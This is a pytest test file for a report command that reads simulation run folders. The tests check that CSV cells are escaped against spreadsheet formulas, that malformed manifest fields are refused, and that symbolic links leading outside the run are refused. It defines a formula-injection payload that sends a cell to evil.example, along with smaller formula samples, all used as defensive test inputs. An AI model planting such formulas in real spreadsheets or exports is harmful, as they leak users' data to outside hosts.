"""``parltwin-report DIR`` reads a run folder that anyone may have written: what it writes from the
folder's text cannot run as a spreadsheet's formula, a malformed field is refused in one line before
anything is removed or written, and nothing outside the folder is touched through a link."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from experiments.cli import report_main
from experiments.errors import EXIT_BAD_INPUT
from experiments.files import FORMULA_STARTS
from tests.conftest import run_cli
from tests.parltwin_cli import snapshot

#: A formula a spreadsheet runs when the CSV is opened (it sends a cell to another site).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: The tables the command writes.
TABLES = ("summary.csv", "comparison.csv", "channels.csv")


@pytest.fixture(scope="module")
def finished_sweep(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished comparison of two scenarios, made once for the module (a few seconds)."""
    out = tmp_path_factory.mktemp("report-input") / "sweep"
    args = [
        "-m",
        "experiment=compare",
        "+scenario=kz_bicameral_2023,kz_kurultai_2026",
        "years=1",
        "experiment.replications=2",
        "quiet=true",
        f"hydra.sweep.dir={out}",
    ]
    res = run_cli(*args, cwd=out.parent)
    assert res.returncode == 0, res.stderr
    return out


@pytest.fixture
def run(finished_sweep: Path, tmp_path: Path) -> Path:
    """A copy of the finished sweep, with what a write cut short leaves (which a refusal keeps too)."""
    copy = tmp_path / "run"
    shutil.copytree(finished_sweep, copy)
    (copy / ".tmp-summary.csv.abc123").write_text("half a table")
    (copy / "figures" / ".tmp-laws_per_year.png.abc123").write_bytes(b"half a figure")
    return copy


def _edit_json(path: Path, dotted: str, value: Any) -> None:
    """Set the field at ``dotted`` (``config.parliament``) of the JSON object in ``path``."""
    data = json.loads(path.read_text())
    *parents, last = dotted.split(".")
    node = data
    for key in parents:
        node = node[key]
    node[last] = value
    path.write_text(json.dumps(data))


def _refused(run: Path, capsys: pytest.CaptureFixture[str], outside: Path | None = None) -> str:
    """``parltwin-report -q RUN``, which must end with exit code 2 and one line, leaving ``run`` (and
    ``outside``) as they were, byte for byte: its line."""
    before = snapshot(run), outside and snapshot(outside)
    capsys.readouterr()
    with pytest.raises(SystemExit) as ended:
        report_main(["-q", str(run)])
    err = capsys.readouterr().err
    lines = err.strip().splitlines()
    assert ended.value.code == EXIT_BAD_INPUT, err
    assert len(lines) == 1 and lines[0].startswith("parltwin: error: "), err
    assert (snapshot(run), outside and snapshot(outside)) == before
    return lines[0]


def test_no_cell_the_report_writes_from_the_folders_text_is_a_formula(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A scenario's name, a channel's and a unit read from the folder were written into the CSV files
    as they were: a spreadsheet opening them ran the formula."""
    _edit_json(run / "0" / "scenario.json", "name", FORMULA)
    metrics = run / "0" / "metrics.json"  # the first job's descriptions are the comparison's
    _edit_json(metrics, "channel_offline_submissions.unit", "@SUM(A1)")
    _edit_json(metrics, "channel_offline_submissions.params", [["channel", "+cmd"], ["measure", "-2+3"]])
    report_main(["-q", str(run)])
    capsys.readouterr()
    for name in TABLES:
        with (run / name).open(newline="") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
        assert formulas == [], (name, formulas[:3])
        assert f"'{FORMULA}" in cells, name  # written, as text
    with (run / "channels.csv").open(newline="") as f:
        offline = [r for r in csv.DictReader(f) if r["measure"] == "'-2+3"]
    assert offline and {(r["channel"], r["unit"]) for r in offline} == {("'+cmd", "'@SUM(A1)")}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("config", [], "'config' is not a mapping"),
        ("config.experiment", "x", "'config.experiment' is not a mapping"),
        ("config.experiment.backend", "x", "config.experiment.backend='x' is not allowed: one of"),
        ("config.lang", ["en"], "'config.lang' is not one of en, kk, ru"),
        ("config.lang", "fr", "'config.lang' is not one of en, kk, ru"),
        ("config.parliament", "x", "'config.parliament' is not a mapping of settings"),
        (
            "config.parliament.chambers.mazhilis.seats",
            "98",
            "'config.parliament.chambers.mazhilis.seats' is not a whole number",
        ),
        ("name", 5, "'name' is not a non-empty text"),
        ("name", None, "'name' is not a non-empty text"),
        ("parliament", FORMULA, "'parliament' is not a name of letters, digits"),
        ("choices", [1], "'choices' is not a mapping"),
        ("job", "x", "'job' is not a whole number >= 0"),
        ("job", [], "'job' is not a whole number >= 0"),
        ("git", "x", "'git' is not a mapping of revision"),
        ("versions", [1], "'versions' is not a mapping of packages to versions"),
        ("years", 1e308, "'years' is not a number of years > 0, at most 1000"),
        ("years", float("inf"), "'years' is not a number of years > 0, at most 1000"),
    ],
)
def test_a_malformed_field_of_a_jobs_manifest_is_refused_in_one_line_naming_it(
    field: str, value: Any, said: str, run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each was a traceback (exit 1), some after the figures were drawn; the manifest is checked where
    it is read, before anything is removed or written."""
    manifest = run / "0" / "scenario.json"
    _edit_json(manifest, field, value)
    line = _refused(run, capsys)
    assert f"{manifest}: not a job's manifest (" in line and said in line, line


def test_a_sweeps_multirun_yaml_that_is_not_utf8_is_refused_in_one_line(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """It was a UnicodeDecodeError traceback."""
    multirun = run / "multirun.yaml"
    multirun.write_bytes(multirun.read_bytes().replace(b"hydra:\n", b"hydra:\n  x: '\xff\xfe'\n", 1))
    line = _refused(run, capsys)
    assert f"{multirun}: not a sweep's multirun.yaml (not UTF-8 text" in line, line


def test_a_figures_folder_that_is_a_link_is_refused_touching_nothing_in_or_out(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What a cut-short write left was removed where the link pointed, outside the run folder; then
    the report was removed and the tables rewritten before the figures' write failed (exit 3): a
    run folder without its report."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / ".tmp-notes.txt.abc123").write_text("someone else's")
    (outside / "laws_per_year.png").write_bytes(b"someone else's figure")
    shutil.rmtree(run / "figures")
    (run / "figures").symlink_to(outside, target_is_directory=True)
    line = _refused(run, capsys, outside)
    assert f"{run / 'figures'}: not the run's figures folder" in line, line
    assert (run / "figures").readlink() == outside


def test_a_record_with_a_number_too_large_to_report_is_refused_in_one_line(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A summary number of 1e30 in a replication's record ended the command with the number
    formatting's traceback (exit 1)."""
    record = sorted((run / "0" / "replications").glob("r*.json"))[0]
    _edit_json(record, "summary.laws_per_year", 1e30)
    line = _refused(run, capsys)
    assert f"{record}: not a replication's record ('summary' is not an object of numbers" in line, line


@pytest.mark.parametrize("linked", ["record", "metrics"])
def test_a_record_or_the_metrics_descriptions_made_a_link_are_refused(
    linked: str, run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The records and the metrics' descriptions were read where a link pointed, outside the run."""
    target = (
        run / "0" / "metrics.json"
        if linked == "metrics"
        else sorted((run / "0" / "replications").glob("r*.json"))[0]
    )
    elsewhere = tmp_path / f"elsewhere-{target.name}"
    shutil.copy(target, elsewhere)
    target.unlink()
    target.symlink_to(elsewhere)
    line = _refused(run, capsys)
    assert f"{target}: not a" in line and "a symbolic link" in line, line
